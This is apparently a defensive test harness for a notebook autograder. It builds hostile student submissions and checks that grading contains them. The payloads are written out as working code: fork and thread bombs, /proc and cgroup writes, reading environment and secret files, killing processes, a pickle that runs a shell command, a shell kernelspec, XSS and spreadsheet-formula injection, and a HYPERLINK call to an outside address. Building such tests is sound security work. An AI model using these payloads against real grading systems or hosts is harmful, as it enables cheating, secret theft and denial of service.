"""`ppdm course attack`: a class of hostile submissions, graded here and now, and what held.

Each attack tries to win points it did not earn, to reach something outside of its cell, to cost
another student something, or to stop the grading. Beside them sit students who answered everything
rightly, before and after, and must get full marks. What is looked at afterwards: points, the files
of the lecturer, her secrets in anything that was written, processes left over, connections, time.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import re
import secrets
import socket
import tempfile
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

import nbformat
from nbformat import NotebookNode

from ppdm.course.build import default_sources, find_sources, student_version
from ppdm.course.examine import CELLS, patience
from ppdm.course.grade import grade
from ppdm.course.handin import show
from ppdm.course.mark import TESTS

PRIMER = "00_primer"
HONEST = ("aaa-honest", "mmm-honest", "zzz-honest")
#: Seconds beyond its time limit that a submission may take: starting, interrupting, ending.
SLACK = 20


class Room(NamedTuple):
    """What an attack may know of the place: more than a student does."""

    folder: Path  # the submissions
    out: Path
    secret: Path  # a file of the lecturer's, which holds the token
    token: str
    mark: Path  # a file that must not come into being
    port: int  # somebody listens here, and must not hear anything
    over: threading.Event  # the grading has ended


class Attack(NamedTuple):
    """One hostile student: a name, what she hands in, and the tasks that she may rightly earn."""

    name: str
    make: Callable[[Room, Path], None]
    earns: frozenset[str] = frozenset()


# -- how an attack is handed in ------------------------------------------------------------------


def solved(source: Path) -> NotebookNode:
    """A submission with the lecturer's solutions for answers."""
    answers = {_name(cell): cell.source for cell in nbformat.read(source, as_version=4).cells}
    notebook = student_version(source)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            lines = answers[_name(cell)].split("\n")
            cell.source = "\n".join(line for line in lines if "### " not in line)
    return notebook


def blank() -> NotebookNode:
    """A submission without an answer."""
    return student_version(_source())


def _source() -> Path:
    return find_sources(default_sources())[PRIMER]


def _name(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _write(folder: Path, notebook: NotebookNode, name: str = f"{PRIMER}.ipynb") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(json.dumps(notebook), encoding="utf-8")
    return path


ATTACKS: list[Attack] = []
ALL = frozenset({"estimate", "average", "plan", "claim"})


def _code(name: str, text: str, cell: str = "estimate-answer", honest: bool = False,
          earns: frozenset[str] | None = None) -> None:  # fmt: skip
    """An attack by code in one cell, of a submission that is else empty, or else right."""

    def make(room: Room, folder: Path) -> None:
        notebook = solved(_source()) if honest else blank()
        words = {"SECRET": room.secret, "MARK": room.mark, "OUT": room.out, "PORT": room.port,
                 "FOLDER": room.folder, "PACKAGE": Path(__file__).parent,
                 "SOURCES": default_sources()}  # fmt: skip
        source = re.sub(r"@([A-Z]+)@", lambda found: str(words[found[1]]), text)
        if cell == "before":
            notebook.cells.insert(0, nbformat.v4.new_code_cell(source))
        for one in notebook.cells:
            if _name(one) == cell:
                one.source = source
        _write(folder, notebook)

    lost = frozenset({cell.removesuffix("-answer")})
    given = (ALL - lost if honest else frozenset()) if earns is None else earns
    ATTACKS.append(Attack(name, make, given))


def _file(name: str) -> Callable:
    """An attack by an odd file."""

    def register(make: Callable[[Room, Path], None]) -> Callable:
        ATTACKS.append(Attack(name, make))
        return make

    return register


_ANSWERS = """
def estimate(*a): return (0.0, 0.0)
def averaged(*a): return 0.0
def survey_plan(*a): return None
def simulate(*a): return [0.0] * 400
def decide(*a): return "reproduced"
my_plan = None
"""

# -- the class of the review, by name --------------------------------------------------------------

_code("rewrites the checker in the checkout", _ANSWERS + """
import pathlib, ppdm.course
for folder in ("@PACKAGE@", str(pathlib.Path(ppdm.course.__file__).parent)):
    for path in pathlib.Path(folder).glob("*.py"):
        try: path.write_text(path.read_text() + "\\ndef compare(*a, **k): pass\\n")
        except Exception: pass
""")  # fmt: skip
_code("leaves a daemon that changes another's result", _ANSWERS + """
import os, subprocess, sys
code = '''
import time, glob, os
end = time.time() + 60
while time.time() < end:
    for p in glob.glob("@OUT@/.graded/*/*.json") + glob.glob("@OUT@/*.csv"):
        try: open(p, "w").write("{}")
        except OSError: pass
    try: open("@MARK@", "w").write("x")
    except OSError: pass
    time.sleep(0.05)
'''
subprocess.Popen([sys.executable or "python3", "-c", code, "ppdm-attack-daemon"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: exec(code)
    os._exit(0)
""")  # fmt: skip
_code("executes the solutions from the disk", """
import glob, json
for path in glob.glob("@SOURCES@/*.ipynb") + glob.glob("/**/00_primer.ipynb", recursive=True):
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code":
            try: exec("".join(cell["source"]))
            except Exception: pass
""")  # fmt: skip
_code("transforms the input", _ANSWERS + """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
get_ipython().ast_transformers.clear()
""")  # fmt: skip
_code("fakes the checks through meta_path", _ANSWERS + """
import sys, types
class Finder:
    def find_spec(self, name, path=None, target=None): return None
    def find_module(self, name, path=None): return None
sys.meta_path.insert(0, Finder())
for name in ("primer", "tell"):
    fake = types.ModuleType(f"ppdm.course.{name}")
    for check in ("estimate", "average", "plan", "claim"): setattr(fake, f"check_{check}", lambda *a, **k: None)
    sys.modules[fake.__name__] = fake
import ppdm.course; ppdm.course.primer = sys.modules["ppdm.course.primer"]
""")  # fmt: skip
_code("climbs the frames", """
import sys
def right(*args):
    frame = sys._getframe()
    while frame is not None:
        for name in ("right", "good", "spread", "expected", "verdict"):
            if name in frame.f_locals: return frame.f_locals[name]
        frame = frame.f_back
    return 0.0
def estimate(*a): return right(), right()
averaged = survey_plan = simulate = decide = right
my_plan = None
""")  # fmt: skip
_code("replaces the handler of errors", _ANSWERS + """
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
""")  # fmt: skip
_code("patches numpy", _ANSWERS + """
import numpy as np, builtins
np.allclose = lambda *a, **k: True
np.asarray = lambda *a, **k: np.zeros(1)
builtins.abs = lambda x: 0
builtins.isinstance = lambda *a: True
""")  # fmt: skip
_code("says a file of the lecturer's in an error", 'raise Exception(open("@SECRET@").read())')
_code("says a file from within an answer", """
def estimate(reports, theta): raise Exception(open("@SECRET@").read())
def averaged(*a): return open("@SECRET@").read()
""")  # fmt: skip
_code("says the environment", """
import os
def estimate(reports, theta): raise Exception(" ".join(os.environ.values()))
""")  # fmt: skip
_code("reads what others handed in", """
import glob
found = [open(p).read() for p in glob.glob("@FOLDER@/*/*.ipynb")]
exec("".join("".join(c["source"]) for c in __import__("json").loads(found[0])["cells"] if c["cell_type"] == "code"))
""")  # fmt: skip
_code("calls the network", """
import socket
for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("192.0.2.1", 80)):
    try: socket.create_connection(address, timeout=0.5).send(b"hello")
    except OSError: pass
""")  # fmt: skip
_code("prints without end", "while True: print('x' * 10**6)")
_code("leaves in an early cell", "exit()", cell="before", honest=True, earns=ALL)
_code(
    "ends Python in an early cell", "import os; os._exit(0)", cell="before", honest=True, earns=ALL
)
_code("loops", "while True: pass", honest=True)
_code("loops in an answer", "def estimate(*a):\n    while True: pass", honest=True)
_code("cannot be interrupted", """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True: pass
""", honest=True)  # fmt: skip
_code("takes 300 GB", "import numpy as np\nx = np.ones(40_000_000_000)", honest=True)
_code("patches the checks", """
from ppdm.course import primer
primer.check_estimate = lambda *a, **k: None
def estimate(*a): return 0, 0
""", honest=True)  # fmt: skip


@_file("a link to somebody's file")
def _link(room: Room, folder: Path) -> None:
    folder.mkdir()
    (folder / f"{PRIMER}.ipynb").symlink_to(room.folder / HONEST[0] / f"{PRIMER}.ipynb")


@_file("a folder that is a link to somebody's")
def _folder_link(room: Room, folder: Path) -> None:
    folder.symlink_to(room.folder / HONEST[0])


@_file("a broken link")
def _broken(room: Room, folder: Path) -> None:
    folder.mkdir()
    (folder / f"{PRIMER}.ipynb").symlink_to("nowhere")


@_file("a folder named like a notebook")
def _folder(room: Room, folder: Path) -> None:
    (folder / f"{PRIMER}.ipynb").mkdir(parents=True)


@_file("a link to a device without end")
def _zero(room: Room, folder: Path) -> None:
    folder.mkdir()
    (folder / f"{PRIMER}.ipynb").symlink_to("/dev/zero")


@_file("a pipe that nobody writes")
def _pipe(room: Room, folder: Path) -> None:
    folder.mkdir()
    os.mkfifo(folder / f"{PRIMER}.ipynb")


@_file("a formula for an answer")
def _formula(room: Room, folder: Path) -> None:
    notebook = blank()
    notebook.cells[-1].source = '=HYPERLINK("http://192.0.2.1/?" & A1, "read me")'
    _write(folder, notebook)


@_file("no notebook at all")
def _no_notebook(room: Room, folder: Path) -> None:
    folder.mkdir()
    (folder / f"{PRIMER}.ipynb").write_bytes(os.urandom(2000))


# -- further ones ----------------------------------------------------------------------------------

_code("a bomb of processes", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass")
_code("a bomb of threads", """
import threading, time
def more():
    while True:
        try: threading.Thread(target=more).start()
        except RuntimeError: time.sleep(0.01)
more()
""")  # fmt: skip
_code("memory, spread over processes", """
import os, numpy as np, time
for _ in range(30):
    if os.fork() == 0:
        x = np.ones(200_000_000 // 8); time.sleep(1000)
time.sleep(1000)
""")  # fmt: skip
_code("fills the disk", """
import os, itertools
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/cell", "/"):
    for number in range(40):
        try:
            with open(f"{folder}/filler-{number}", "wb") as f:
                for _ in range(100): f.write(b"x" * (1 << 20))
        except OSError: pass
""", honest=True)  # fmt: skip
_code("makes a million files", """
for i in range(1_000_000):
    try: open(f"/tmp/f{i}", "w").close()
    except OSError: break
""", honest=True)  # fmt: skip
_code("writes to /proc", """
for path in ("/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj", "/proc/sysrq-trigger", "/proc/1/mem",
             "/sys/kernel/uevent_helper", "/sys/fs/cgroup/memory/release_agent"):
    try: open(path, "w").write("|@MARK@")
    except OSError: pass
""", honest=True)  # fmt: skip
_code("looks for the lecturer through /proc", """
import glob
text = ""
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/proc/1/root@SECRET@", "/proc/self/mountinfo"]:
    try: text += open(path).read()
    except OSError: pass
def estimate(*a): raise Exception(text)
""")  # fmt: skip
_code("reads the pipe of the checker", """
import os, struct, json
def forge(*a):
    try:
        os.set_blocking(3, False)
        text = os.read(3, 1 << 20)
    except OSError: text = b""
    finally: os.set_blocking(3, True)
    return [json.dumps(str(text)[:200])]
estimate = averaged = survey_plan = simulate = decide = forge
my_plan = 1
""")  # fmt: skip
_code("answers in place of the runner", _ANSWERS + """
import os, struct
for text in (b'{"error": null}', b'{"found": {}}', b'{"value": {"t": [0.0, 0.0]}}', b'{"value": true}') * 50:
    os.write(3, struct.pack(">Q", len(text)) + text)
""")  # fmt: skip
_code("says that an answer has a million gigabytes", """
import os, struct
def estimate(*a):
    os.write(3, struct.pack(">Q", 10**15)); os.write(3, b"x" * 10**6); return 0
""", honest=True, earns=ALL - {"estimate"})  # fmt: skip
_code("answers with lists within lists", """
import os, struct
def estimate(*a):
    text = b'{"value": ' + b'{"l": [' * 100_000 + b"1" + b"]}" * 100_000 + b"}"
    os.write(3, struct.pack(">Q", len(text)) + text)
    x = []
    for _ in range(100_000): x = [x]
    return x
""", honest=True, earns=ALL - {"estimate"})  # fmt: skip
_code("answers with an array that lies about its shape", """
from ppdm.course.inside import plain
plain._array = lambda *a: {"a": "|O", "shape": [10**9, 10**9], "data": "AAAA"}
plain._down = lambda *a: {"a": "<f8", "shape": [-1, 2**62], "data": ""}
""" + _ANSWERS)  # fmt: skip
_code("answers with a poisoned ==", """
class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __abs__(self): return self
    def __sub__(self, other): return Yes(0)
    __rsub__ = __le__ = __lt__ = __ge__ = __gt__ = __eq__
    __hash__ = float.__hash__
    def __array__(self, *a, **k):
        import numpy as np
        return np.array(0.0)
class Word(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def estimate(*a): return (Yes(0), Yes(0))
def averaged(*a): return Yes(0)
def survey_plan(*a): return (Yes(0), Yes(0))
def simulate(*a): return [Yes(0)] * 400
def decide(*a): return Word("x")
my_plan = (Yes(0), Yes(0))
""")  # fmt: skip
_code("answers with something that pickles into a program", """
import os
class P:
    def __reduce__(self): return os.system, ("touch @MARK@",)
    def __repr__(self): return "<script>alert(1)</script>"
def estimate(*a): return P()
averaged = survey_plan = simulate = decide = estimate
my_plan = P()
""")  # fmt: skip
_code("answers with nan", """
nan = float("nan")
def estimate(*a): return nan, nan
def averaged(*a): return nan
def survey_plan(*a): return nan, nan
def simulate(*a): return [nan] * 400
def decide(*a): return nan
my_plan = nan, nan
""")  # fmt: skip
_code("times the hidden tests, and remembers", """
import time, pickle
seen = []
def estimate(reports, theta):
    seen.append((time.perf_counter(), len(reports)))
    said = sum(reports) / len(reports)
    if len(seen) < 3:   # right where the visible test asks
        return (said - 1 + theta) / (2 * theta - 1), (said * (1 - said) / len(reports)) ** .5 / abs(2 * theta - 1)
    return 0.0, 0.0
""")  # fmt: skip
_code("catches whatever ends it", """
while True:
    try:
        while True: pass
    except BaseException: pass
""", honest=True)  # fmt: skip
_code(
    "kills everything",
    "import os, signal\nos.kill(-1, signal.SIGKILL)\nos.kill(os.getppid(), 9)",
    honest=True,
)
_code("looks into other processes", """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in range(1, 3000):
    libc.ptrace(16, pid, 0, 0)
    try: os.kill(pid, 0) or pid == os.getpid() or os.kill(pid, 9)
    except OSError: pass
""", honest=True)  # fmt: skip
_code("makes rooms of its own, and mounts", """
import ctypes, os
libc = ctypes.CDLL(None)
results = [libc.unshare(0x10000000), libc.unshare(0x20000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=100g"),
           libc.chroot(b"/tmp"), libc.setuid(0), libc.setgid(0), libc.mknod(b"/tmp/sda", 0o60666, 0x800)]
assert 0 not in results, results
""", honest=True)  # fmt: skip
_code("changes the runner", _ANSWERS + """
import sys, json
runner = sys.modules["ppdm.course.inside.runner"]
runner.Runner.do_find = lambda self, message: {"found": {n: {"value": True} for n in message["find"]}}
runner.Runner.do_call = lambda self, message: {"value": {"t": [0.0, 0.0]}}
""")  # fmt: skip
_code("looks for right answers among all objects", """
import gc
found = [o for o in gc.get_objects() if isinstance(o, dict) and ("seeds" in o or "mistakes" in o or "right" in o)]
texts = [str(o)[:200] for o in found]
def estimate(*a): return texts
""")  # fmt: skip
_code("changes the data that begin gives", """
import ppdm.course
ppdm.course.begin = lambda *a, **k: None
my.theta = 0.5
my.share = my.people = my.se = my.belief = 0
my_plan = None
def survey_plan(*a): return None
""", cell="plan-answer")  # fmt: skip
_code("leaves a module for the next one", _ANSWERS + """
import pathlib
for folder in ("/cell", "/cell/ppdm/course", "/tmp", "/tmp/home", "/opt/site0", "/usr/lib"):
    for name in ("sitecustomize.py", "numpy.py", "primer.py"):
        try: pathlib.Path(folder, name).write_text("raise SystemExit")
        except OSError: pass
""")  # fmt: skip
_code("listens for others", """
import socket
s = socket.socket(socket.AF_UNIX); s.bind("\\0ppdm-attack"); s.listen()
try: t = socket.socket(); t.bind(("127.0.0.1", 45454)); t.listen()
except OSError: pass
""", honest=True)  # fmt: skip
_code("a message of markup", """
def estimate(*a): raise Exception("<script>alert(1)</script><img src=x onerror=alert(1)>" + "\\u202e\\x00\\x1b[2J")
def averaged(*a): return "<script>alert(1)</script>"
""")  # fmt: skip
_code("calls back without end", """
def estimate(*a):
    import os, struct
    text = b'{"back": 0, "args": []}'
    while True: os.write(3, struct.pack(">Q", len(text)) + text); os.read(3, 1 << 16)
""", honest=True)  # fmt: skip


@_file("a notebook with malicious notes")
def _notes(room: Room, folder: Path) -> None:
    notebook = blank()
    for cell in notebook.cells:
        if _name(cell):
            cell.metadata["nbgrader"] |= {
                "points": 1e9,
                "locked": False,
                "solution": True,
                "grade": True,
            }
    notebook.metadata["kernelspec"] = {"name": f"sh -c 'touch {room.mark}'", "language": "sh"}
    notebook.metadata["x"] = "<script>alert(1)</script>"
    notebook.cells.append(
        nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {"grade_id": "<script>"}})
    )
    _write(folder, notebook)


@_file("a notebook with markup in its outputs and answers")
def _markup(room: Room, folder: Path) -> None:
    notebook = blank()
    notebook.cells[
        -1
    ].source = "<script>alert(1)</script><iframe src='file:///etc/passwd'>![](javascript:1)"
    notebook.cells[1]["outputs"] = [{"output_type": "display_data", "metadata": {},
                                     "data": {"text/html": "<script>alert(1)</script>"}}]  # fmt: skip
    _write(folder, notebook)


@_file("names of cells that are no names")
def _names(room: Room, folder: Path) -> None:
    notebook = blank()
    for cell in notebook.cells:
        cell.metadata["nbgrader"] = {"grade_id": ["../../x", {"a": 1}]}
    _write(folder, notebook)


@_file("a notebook of half a million cells")
def _cells(room: Room, folder: Path) -> None:
    folder.mkdir()
    cell = '{"cell_type":"code","source":""},'
    (folder / f"{PRIMER}.ipynb").write_text('{"cells":[' + cell * 500_000 + '{"cell_type":"raw"}]}')


@_file("a notebook nested without end")
def _nested(room: Room, folder: Path) -> None:
    folder.mkdir()
    (folder / f"{PRIMER}.ipynb").write_text('{"cells":' + "[" * 5_000_000)


@_file("a giant with holes")
def _giant(room: Room, folder: Path) -> None:
    folder.mkdir()
    with (folder / f"{PRIMER}.ipynb").open("wb") as file:
        file.truncate(1 << 40)


@_file("a file that becomes a link while it is opened")
def _race(room: Room, folder: Path) -> None:
    path, other = _write(folder, blank()), folder / "other"

    def swap() -> None:
        while not room.over.wait(0.0005):
            with contextlib.suppress(OSError):
                other.symlink_to(room.folder / HONEST[0] / f"{PRIMER}.ipynb")
                os.replace(other, path)
                other.write_text("{}")
                os.replace(other, path)

    threading.Thread(target=swap, daemon=True).start()


@_file("a socket, a zip bomb, and folders without end")
def _odd(room: Room, folder: Path) -> None:
    deep = folder
    for _ in range(40):
        deep = deep / "deeper"
    deep.mkdir(parents=True)
    (folder / "bomb.zip").write_bytes(b"PK\x05\x06" + bytes(18))
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as made:
        made.bind(str(folder / f"{PRIMER}.ipynb"))


@_file("=cmd|' calc'!A1 <script>alert(1)</script>")
def _bad_name(room: Room, folder: Path) -> None:
    _write(room.folder / "=cmd|' calc'!A1 <script>alert(1)<\u2215script>", blank())


@_file("\udcff\n\x1b[2J a name that is no text")
def _no_text(room: Room, folder: Path) -> None:
    _write(room.folder / "\udcff\n\x1b[2J a name that is no text", blank())


# -- the day of the attack ---------------------------------------------------------------------


def attack(timeout: int = 5, only: str = "", workers: int = 2) -> int:
    """Grade the class and print what held; 0 if all did.

    Always sealed: some of these end every process of whoever runs them.
    """
    chosen = [one for one in ATTACKS if only.lower() in show(one.name).lower()]
    if not chosen:
        raise ValueError(f"no attack has {only!r} in its name; `ppdm course attack` runs all")
    found = run(chosen, timeout, workers)
    for name, problems in found.items():
        print(f"{'contained' if not problems else 'NOT CONTAINED':<14} {show(name)}"
              + "".join(f"\n               {problem}" for problem in problems))  # fmt: skip
    bad = sum(bool(problems) for problems in found.values())
    print(f"{len(found) - bad} of {len(found)} contained")
    return 1 if bad else 0


def run(
    chosen: list[Attack], timeout: float, workers: int = 2, sealed: bool = True
) -> dict[str, list[str]]:
    """For each attack, and for the class as a whole, what went wrong."""
    with (
        tempfile.TemporaryDirectory(prefix="ppdm-attack-", ignore_cleanup_errors=True) as scratch,
        _listener() as (port, heard),
    ):
        token = secrets.token_hex(16)
        base = Path(scratch)
        room = Room(base / "class", base / "graded", base / "home" / "secret.txt", token,
                    base / "home" / "mark", port, threading.Event())  # fmt: skip
        room.folder.mkdir()
        room.secret.parent.mkdir()
        room.secret.write_text(f"the secret is {token}")
        for student in HONEST:
            _write(room.folder / student, solved(_source()))
        students = {one.name: _hand_in(one, room) for one in chosen}
        os.environ["PPDM_ATTACK"] = f"the secret is {token}"
        before = _state(room)
        spent: dict[tuple[str, str], float] = {}
        try:
            results = grade(room.folder, default_sources(), room.out, timeout, workers,
                                    sealed, spent)  # fmt: skip
        finally:
            room.over.set()
            del os.environ["PPDM_ATTACK"]
        found = {
            one.name: _look(one, students[one.name], results, spent, timeout) for one in chosen
        }
        found["the class as a whole"] = _look_around(room, results, before, heard)
    return found


def _hand_in(one: Attack, room: Room) -> set[str]:
    """Let an attack hand in; the students that have come into being."""
    before = set(os.listdir(room.folder))
    one.make(room, room.folder / re.sub(r"[^a-z0-9]+", "-", one.name.lower()).strip("-"))
    return {show(name) for name in set(os.listdir(room.folder)) - before}


def _look(one: Attack, students: set[str], results: list[dict], spent: dict, timeout) -> list[str]:
    own = [result for result in results if result["student"] in students]
    problems = [] if own else ["it is not in the results"]
    for result in own:
        for task in result["tasks"]:
            if task["by"] == TESTS and task["points"] and task["task"] not in one.earns:
                problems.append(f"{task['points']:g} points for {task['task']}")
            if task["by"] == TESTS and not task["points"] and task["task"] in one.earns:
                problems.append(f"no points for {task['task']}, which was right: {task['message']}")
        seconds = spent.get((result["student"], result["assignment"]), 0)
        if seconds > CELLS * timeout * patience() + SLACK:
            problems.append(f"took {seconds:.0f} seconds")
    return problems


def _look_around(room: Room, results: list[dict], before: dict, heard: list) -> list[str]:
    """What happened outside: to files, secrets, pages, processes, others' points."""
    problems = []
    for result in results:
        if result["student"] in HONEST:
            lost = [
                t["task"] for t in result["tasks"] if t["by"] == TESTS and t["points"] != t["max"]
            ]
            problems += [f"{result['student']} lost points for {', '.join(lost)}"] if lost else []
    problems += [
        f"changed: {path}" for path, digest in _state(room).items() if before.get(path) != digest
    ]
    if room.mark.exists():
        problems.append("a file was written outside of the cell")
    if heard:
        problems.append(f"the network was reached, {len(heard)} times")
    for path in sorted(room.out.rglob("*")):
        if path.is_file():
            text = path.read_text(encoding="utf-8", errors="replace")
            if room.token in text:
                problems.append(f"a secret of the lecturer's is in {path.name}")
            if path.suffix == ".html" and re.search(
                r"<script|<img|<iframe|<[^>]+\s(on\w+|href|src)=|\x1b", text
            ):
                problems.append(f"markup of a student's is in {path.name}")
            if path.suffix == ".csv" and re.search(r"(^|[,;\"\n])[=@]", text):
                problems.append(f"a formula is in {path.name}")
    left = [name for name in _processes() if "ppdm-attack-daemon" in name]
    problems += [f"processes are left: {len(left)}"] if left else []
    return problems


def _state(room: Room) -> dict[str, str]:
    """What belongs to the lecturer: the package, the solutions, her home."""
    folders = (Path(__file__).parents[1], default_sources(), room.secret.parent)
    files = [p for folder in folders for p in sorted(folder.rglob("*"))
             if p.is_file() and p.suffix in (".py", ".ipynb", ".txt")]  # fmt: skip
    core = Path("/proc/sys/kernel/core_pattern")
    files += [core] if core.is_file() else []
    return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in files}


def _processes() -> list[str]:
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            found.append(path.read_bytes().replace(b"\0", b" ").decode("utf-8", "replace"))
    return found


@contextlib.contextmanager
def _listener() -> Iterator[tuple[int, list]]:
    """A port of this machine that hears whoever calls it."""
    heard: list = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                with contextlib.suppress(OSError):
                    connection, address = server.accept()
                    connection.close()
                    heard.append(address)

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        try:
            yield server.getsockname()[1], heard
        finally:
            over.set()
            thread.join()
